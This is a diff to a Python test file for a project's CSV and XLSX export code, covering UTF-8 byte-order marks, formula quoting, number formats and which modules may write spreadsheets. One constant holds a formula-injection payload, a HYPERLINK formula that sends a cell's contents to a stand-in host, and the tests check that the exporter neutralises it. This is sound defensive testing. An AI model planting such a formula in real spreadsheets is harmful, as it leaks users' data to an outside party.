@@ -7,12 +7,14 @@ import csv
 import io
 import subprocess
 import sys
+import zipfile
 from decimal import Decimal
 from pathlib import Path
 
 from openpyxl import load_workbook
 
-from stars.core.spreadsheets import csv_text, xlsx
+from stars.core.spreadsheets import xlsx
+from stars.domain.spreadsheet_text import csv_bytes, csv_text
 
 ATTACK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click")'
 SRC = Path(__file__).resolve().parents[2] / "src" / "stars"
@@ -35,6 +37,22 @@ def test_csv_quotes_formulas_and_keeps_numbers():
         "-1.50",
         "",
         "ok",
+    ]
+
+
+def test_csv_files_are_utf8_with_a_byte_order_mark_that_excel_reads():
+    """Excel on Windows reads a CSV without a byte-order mark in the machine's code page:
+    "£" showed as "Â£" and "Zoë" as "ZoÃ«". The file is the same table, marked as UTF-8."""
+    headers = ["name", "note", "amount"]
+    rows = [["Zoë Brontë", "£5 for Ciarán", Decimal("12.50")], [ATTACK, None, -3]]
+    body = csv_bytes(headers, rows)
+    assert body.startswith(b"\xef\xbb\xbf")
+    assert not body[3:].startswith(b"\xef\xbb\xbf")  # one mark, not two
+    assert body.decode("utf-8-sig") == csv_text(headers, rows)
+    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
+        headers,
+        ["Zoë Brontë", "£5 for Ciarán", "12.50"],
+        ["'" + ATTACK, "", "-3"],  # formulas still quoted
     ]
 
 
@@ -65,9 +83,9 @@ def test_rates_are_numbers_shown_as_percentages_as_on_the_pages():
 
 
 def test_only_the_spreadsheet_module_writes_csv_or_xlsx():
-    """Every CSV and XLSX goes through stars.core.spreadsheets (the tracker's CSV, in the
-    domain, applies the same rule from stars.domain.spreadsheet_text)."""
-    allowed = {SRC / "core" / "spreadsheets.py", SRC / "domain" / "tracker" / "rows.py"}
+    """Every CSV goes through stars.domain.spreadsheet_text (the tracker's CSV too) and
+    every XLSX through stars.core.spreadsheets."""
+    allowed = {SRC / "core" / "spreadsheets.py", SRC / "domain" / "spreadsheet_text.py"}
     offenders = []
     for path in SRC.rglob("*.py"):
         if path in allowed:
@@ -99,3 +117,18 @@ def test_the_pages_load_openpyxl_only_to_write_a_workbook():
     )
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.split() == ["False", "True"]
+
+
+def test_xlsx_cells_hold_no_page_layout_characters_and_decimals_are_exact_numbers():
+    """A word joiner (U+2060) keeps a sign on its amount's line on a page; in a cell it is an
+    invisible character Excel keeps. A Decimal of more than two places was written as text."""
+    rows = [["\u2212\u2060£5.00 since\u00a0Q1", Decimal("12.345"), Decimal("3600.00")]]
+    body = xlsx({"S": (["headline", "a", "b"], rows)}, money_columns={"S": {"a", "b"}})
+    ws = load_workbook(io.BytesIO(body)).active
+    text, exact, pennies = ws[2]
+    assert text.value == "\u2212£5.00 since Q1"
+    assert (exact.value, exact.data_type) == (12.345, "n")
+    assert (pennies.value, pennies.data_type) == (3600, "n")
+    assert exact.number_format == pennies.number_format == "£#,##0.00;[Red]-£#,##0.00"
+    xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
+    assert b"<v>12.345</v>" in xml  # the exact value, not a float's approximation
